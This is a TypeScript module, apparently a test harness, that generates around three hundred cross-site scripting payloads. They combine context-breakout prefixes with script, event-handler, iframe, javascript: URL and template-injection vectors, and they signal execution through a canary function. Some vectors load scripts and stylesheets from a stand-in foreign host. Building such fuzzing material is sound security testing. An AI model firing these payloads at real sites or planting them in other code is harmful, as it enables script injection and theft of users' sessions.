// Texts that would run in a page that took them for markup, for an address or for a script.

/** What a page defines to learn that one of them ran. */
export const RUN = 'razaoXss'
/** Nobody is there; a page that asks it was led away. */
export const FOREIGN = 'mal.exemplo'

const RUNS = `top.${RUN}()`

/** Leave whatever place the text was put in: an element, an attribute, a script, a comment, a template. */
const WAYS_OUT = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</script>',
  '</style>',
  '-->',
  ']]>',
  '</select></form>',
  '"',
  "'",
  '`}',
  '\u0000<x>',
  '&quot;&gt;',
]

const VECTORS = [
  `<script>${RUNS}</script>`,
  `<img src=x onerror=${RUNS}>`,
  `<svg onload=${RUNS}>`,
  `<svg><script>${RUNS}</script></svg>`,
  `<iframe srcdoc="<script>${RUNS}</script>">`,
  `<iframe src="javascript:${RUNS}">`,
  `<input autofocus onfocus=${RUNS}>`,
  `<details open ontoggle=${RUNS}>`,
  `<video><source onerror=${RUNS}></video>`,
  `<style onload=${RUNS}>@import'//${FOREIGN}'</style>`,
  `<link rel=stylesheet href=//${FOREIGN}/x.css>`,
  `<script src=//${FOREIGN}/x.js></script>`,
  `<img src=//${FOREIGN}/p.gif>`,
  `<base href=//${FOREIGN}/>`,
  `<object data="data:text/html,<script>${RUNS}</script>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUNS}>`,
  `<a href="javascript:${RUNS}">abrir</a>`,
  ` onmouseover=${RUNS} style=position:fixed;inset:0 `,
  `{{constructor.constructor('${RUNS}')()}}\${${RUNS}}`,
]

/** Addresses that run when they are followed. */
const ADDRESSES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'data:text/html,<script>',
  'vbscript:',
  `//${FOREIGN}/`,
  'blob:',
].flatMap(scheme => [`${scheme}${RUNS}`, `${scheme}//%0a${RUNS}`])

/** Three hundred of them, and one more. */
export const PAYLOADS: readonly string[] = [...WAYS_OUT.flatMap(way => VECTORS.map(vector => way + vector)), ...ADDRESSES].map(text =>
  text.replaceAll('\u0000', ''),
)

/** Where a place begins in them. */
function beginning(place: string): number {
  let sum = 0
  for (const letter of place) sum = (sum * 31 + letter.charCodeAt(0)) % 1_000_003
  return sum
}

const nth = (at: number): string => PAYLOADS[at % PAYLOADS.length] ?? ''

/** Another one for every place and try. */
export const payloadAt = (place: string, time: number): string => nth(beginning(place) + time)

/** How many stand in one text: after six rounds every place had all of them. */
const TOGETHER = 51
export const ROUNDS = Math.ceil(PAYLOADS.length / TOGETHER)

export const payloadsAt = (place: string, round: number): string =>
  Array.from({ length: TOGETHER }, (_, at) => nth(beginning(place) + round * TOGETHER + at)).join(' ')
